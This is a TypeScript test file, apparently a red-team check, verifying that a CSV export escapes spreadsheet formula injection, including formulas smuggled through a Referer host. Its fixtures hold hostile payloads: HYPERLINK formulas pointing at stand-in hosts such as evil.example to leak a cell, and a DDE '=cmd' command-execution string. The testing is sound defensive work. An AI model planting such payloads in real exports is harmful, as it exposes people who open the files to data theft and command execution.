// Red team, offline path: spreadsheet formulas in the hop CSV export (core/csv.ts). A scanner
// controls the `Referer` header, and the hop's `referrer_host` is its host as the URL parser
// reads it: `https://=hyperlink("evil.com","x")/` is a host. Each value must reach the
// spreadsheet as text, never as a formula.
import { describe, expect, it } from "vitest";
import { parseCsv } from "../../src/client/console/csv.js";
import { csvField, csvLine } from "../../src/core/csv";

/** The cells of one CSV record as a spreadsheet reads them (RFC 4180 quoting undone). */
const cells = (line: string) => parseCsv(line)[0]!.cells;

describe("red team: formulas in the hop CSV", () => {
  it("turns every formula trigger into text with a leading quote", () => {
    for (const value of [
      '=HYPERLINK("https://evil.example/?"&A1,"Open")',
      "=cmd|' /C calc'!A0",
      "+1+1",
      "-2+3",
      "@SUM(A1:A9)",
      "\t=1+1",
      "\r=1+1",
    ]) {
      const [cell] = cells(csvLine([value]));
      expect(cell, JSON.stringify(value)).toBe(`'${value}`);
    }
  });

  it("guards a hostile Referer's host exactly as the hop row stores it", () => {
    for (const referer of [
      'https://=hyperlink("evil.com","x")/',
      "https://=1+2/",
      "https://+1.example/",
      "https://-2+3.example/",
    ]) {
      const host = new URL(referer).host; // store/hops.ts referrerHost
      expect(host, referer).toMatch(/^[=+-]/);
      const record = cells(csvLine(["ev_1", host, "poster"]));
      expect(record, referer).toEqual(["ev_1", `'${host}`, "poster"]);
    }
  });

  it("leaves numbers, plain text and a JSON detail as they are", () => {
    expect(csvField(-5)).toBe("-5");
    expect(csvField(12.5)).toBe("12.5");
    expect(csvField("poster")).toBe("poster");
    expect(cells(csvLine([JSON.stringify({ via: "page", browser: "=x" })]))).toEqual([
      '{"via":"page","browser":"=x"}',
    ]);
  });
});
